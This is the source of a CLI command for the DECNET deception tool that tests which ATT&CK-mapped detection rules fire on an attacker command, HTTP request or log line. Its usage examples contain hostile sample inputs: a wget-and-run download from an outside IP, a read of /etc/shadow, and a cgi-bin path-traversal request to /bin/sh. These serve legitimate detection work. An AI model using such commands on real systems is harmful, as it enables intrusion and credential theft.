import * as Args from '@oclif/core/args'
import * as Flags from '@oclif/core/flags'

import type {RuleTestResult} from '../../ttp/rule-test.js'

import {DecnetCommand} from '../../cli/decnet-command.js'
import {rulesDirFlag} from '../../cli/rules-flags.js'
import {Matcher} from '../../ttp/matcher.js'
import {chooseCatalog} from '../../ttp/catalog-store.js'
import {ruleStatePath} from '../../ttp/rule-state-path.js'
import {loadCheckedRules} from '../../ttp/rule-listing.js'
import {formatRuleTest, testRules} from '../../ttp/rule-test.js'
import {scopedResult, testScope} from '../../ttp/rule-test-scope.js'
import {loadAuthRules} from '../../ttp/auth/auth-rules.js'
import {techniqueIndex} from '../../ttp/technique-check.js'

/** `decnet rules test INPUT`: which rules fire on a command or a DECNET log line. */
export default class RulesTest extends DecnetCommand {
  static override args = {
    input: Args.string({description: 'A command as an attacker typed it, an HTTP request (GET /path HTTP/1.1, then optional header lines), or a whole DECNET log line (<PRI>1 TIMESTAMP ...); - reads it from standard input (there, several log lines, one per line, at most 64 KiB).', required: true}),
  }

  static override description = `Runs the active rules (the shipped pack and --rules-dir) over one input and prints the rules that fire, their techniques with names and tactics from the ATT&CK catalog in use, and the evidence each would store. An HTTP request is read as the http rules read a request event: its request line, then header lines (Name: value), then a blank line and the body. A whole DECNET log line is read as the ttp worker reads a stored one (its command found in its fields or message, its HTTP request in a request event, the database command, mail, captured file or network sensor event it describes, and its credential for the default-credentials rule). Several DECNET log lines (one per line, from standard input) also go through the counting rules in order (brute force, password spraying, credential stuffing, a login after a brute force, beaconing), as the worker would tag them with no earlier lines of the same attackers; each hit names its line. The operator's rule state applies (a rule switched off or expired does not fire; a cap lowers confidences). --rule ID shows that rule's hits only; a counting rule counts across log lines, so --rule naming one with a command or an HTTP request exits 2 and says so. Nothing is written.

Exits 0 (whether or not a rule fires); 2 for an input that does not parse, or a counting rule given no log line; 11 for a --rule no loaded rule has.`

  static override enableJsonFlag = true
  static override examples = [
    `<%= config.bin %> <%= command.id %> 'cd /tmp; wget http://203.0.113.9/x.sh; sh x.sh'`,
    `<%= config.bin %> <%= command.id %> '<134>1 2026-11-26T13:32:51Z decky-01 ssh - command [relay@55555 src_ip="203.0.113.7" command="cat /etc/shadow"]' --json`,
    `<%= config.bin %> <%= command.id %> 'GET /cgi-bin/.%2e/.%2e/.%2e/bin/sh HTTP/1.1'`,
    `<%= config.bin %> <%= command.id %> '<134>1 2026-11-26T13:32:51Z db-02 ssh - file_captured [relay@55555 sha256="5d41402abc4b2a76b9719d911017c592aa11bb22cc33dd44ee55ff6677889900" size="412" orig_path="/tmp/x.sh" src_ip="198.51.100.23" writer_comm="wget"]'`,
    'tail -n 1 /var/log/decnet.log | <%= config.bin %> <%= command.id %> -',
    'grep 203.0.113.7 /var/log/decnet.log | tail -n 50 | <%= config.bin %> <%= command.id %> -',
    'grep 203.0.113.7 /var/log/decnet.log | <%= config.bin %> <%= command.id %> - --rule credential-access.brute-force',
  ]

  static override flags = {
    'rules-dir': rulesDirFlag,
    rule: Flags.string({helpValue: 'ID', summary: 'Only this rule\'s hits (a pattern rule, or a counting rule given DECNET log lines).'}),
  }

  static override summary = 'Show which rules fire on a command, an HTTP request or a DECNET log line.'

  async run(): Promise<RuleTestResult> {
    const {args, flags} = await this.parse(RulesTest)
    const input = args.input === '-' ? await readStdin() : args.input
    const checked = await loadCheckedRules(chooseCatalog(this.config.dataDir).path, {operatorDir: flags['rules-dir'], statePath: ruleStatePath(this.config.dataDir)})
    const {catalog, countingState, set} = checked
    const scope = flags.rule === undefined ? undefined : testScope(flags.rule, checked, input)
    const {auth} = await loadAuthRules(techniqueIndex(catalog))
    const tested = testRules(input, new Matcher(set.rules, {attackVersion: set.attackVersion}), catalog, {...auth, rules: countingState.rules})
    const result = scope === undefined ? tested : scopedResult(tested, scope)
    if (!this.jsonEnabled()) process.stdout.write(formatRuleTest(result))
    return result
  }
}

/** Standard input up to 64 KiB (a DECNET line is never longer), without its final newline. */
async function readStdin(): Promise<string> {
  const chunks: Buffer[] = []
  let size = 0
  for await (const chunk of process.stdin as AsyncIterable<Buffer>) {
    chunks.push(chunk)
    size += chunk.length
    if (size > 64 * 1024) break
  }

  return Buffer.concat(chunks).subarray(0, 64 * 1024).toString('utf8').replace(/\r?\n$/, '')
}
